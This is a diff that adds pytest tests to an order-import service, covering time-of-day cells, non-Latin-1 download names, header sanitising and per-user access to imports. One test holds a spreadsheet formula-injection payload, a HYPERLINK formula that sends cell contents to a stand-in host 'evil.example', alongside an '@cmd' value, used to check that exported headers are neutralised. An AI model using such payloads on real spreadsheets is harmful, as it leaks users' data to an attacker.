@@ -6,10 +6,13 @@ import asyncio
 import io
 import os
 import time
+import uuid
+from datetime import time as dtime
 
 import pytest
 from openpyxl import Workbook, load_workbook
 
+from orderflow.api.auth import create_user
 from orderflow.db.models import Order
 from orderflow.domain.sheets import COLUMNS
 from tests.utils import Stack
@@ -157,3 +160,76 @@ async def test_large_import_runs_in_the_background(stack: Stack):
     print(f"\n{ROWS:,} rows / {ROWS // 20} orders imported in {elapsed:.1f} s")
     assert (s["orders"], s["orders_created"], s["rows_rejected"]) == (ROWS // 20, ROWS // 20, 0)
     assert await stack.count(Order, Order.channel == channel) == ROWS // 20
+
+
+async def test_a_time_cell_is_a_problem_naming_its_row_and_column(stack: Stack):
+    customer = await stack.customer()
+    sku = await stack.product()
+    content = xlsx(
+        [
+            row("TM-1", customer, sku, 2),
+            [],  # blank rows are skipped; the rows below keep their own numbers
+            row("TM-2", customer, sku, dtime(10, 30)),
+        ]
+    )
+    r = await upload(stack, content, channel=f"tm-{customer[-5:].lower()}")
+    assert r.status_code == 201, r.text
+    s = r.json()
+    assert (s["orders_created"], s["orders_rejected"]) == (1, 1)
+    rows = await result_rows(stack, s["id"])
+    assert rows[1]["quantity"] == "10:30:00"
+    assert rows[1]["message"].startswith("cell D4 (quantity) holds a time of day (10:30:00)")
+
+
+async def test_result_download_with_a_non_latin1_file_name(stack: Stack):
+    customer = await stack.customer()
+    sku = await stack.product()
+    r = await upload(
+        stack,
+        xlsx([row("NL-1", customer, sku, 1)]),
+        "订单 März.xlsx",
+        f"nl-{customer[-5:].lower()}",
+    )
+    assert r.status_code == 201, r.text
+    assert r.json()["filename"] == "订单 März.xlsx"
+    got = await stack.get(f"/imports/{r.json()['id']}/result.xlsx", role="sales")
+    assert got.status_code == 200
+    disposition = got.headers["content-disposition"]
+    assert disposition.isascii()
+    assert 'filename="__ M_rz-result.xlsx"' in disposition
+    assert "filename*=UTF-8''%E8%AE%A2%E5%8D%95%20M%C3%A4rz-result.xlsx" in disposition
+
+
+async def test_header_cells_are_sanitised_in_the_result(stack: Stack):
+    customer = await stack.customer()
+    sku = await stack.product()
+    evil = '=HYPERLINK("http://evil.example/?"&A2,"click")'
+    csv = (
+        f'external_ref,customer_code,sku,quantity,"{evil.replace(chr(34), chr(34) * 2)}",@cmd\n'
+        f"H-1,{customer},{sku},1,note,x\n"
+    ).encode()
+    r = await upload(stack, csv, "evil.csv", f"hdr-{customer[-5:].lower()}")
+    assert r.status_code == 201, r.text
+    got = await stack.get(f"/imports/{r.json()['id']}/result.xlsx", role="sales")
+    ws = load_workbook(io.BytesIO(got.content)).active
+    header = list(ws.iter_rows(max_row=1))[0]
+    assert all(c.data_type != "f" for c in header)
+    assert [c.value for c in header[4:6]] == ["'" + evil.lower(), "'@cmd"]
+
+
+async def test_imports_are_visible_to_their_owner_and_admins_only(stack: Stack):
+    customer = await stack.customer()
+    sku = await stack.product()
+    r = await upload(stack, xlsx([row("V-1", customer, sku, 1)]), channel="import")
+    assert r.status_code == 201, r.text
+    import_id = r.json()["id"]
+    async with stack.sessions() as s:
+        other = await create_user(s, f"sales-other-{uuid.uuid4().hex[:6]}", "sales")
+        await s.commit()
+    for path in (f"/imports/{import_id}", f"/imports/{import_id}/result.xlsx"):
+        assert (await stack.get(path, role="sales")).status_code == 200
+        assert (await stack.get(path, role="admin")).status_code == 200
+        theirs = await stack.http.get(path, headers={"Authorization": f"Bearer {other}"})
+        assert theirs.status_code == 404, theirs.text
+        assert theirs.json()["detail"] == f"no import {import_id}"
+    assert (await stack.get("/imports/99999999999999999999999999", role="sales")).status_code == 422
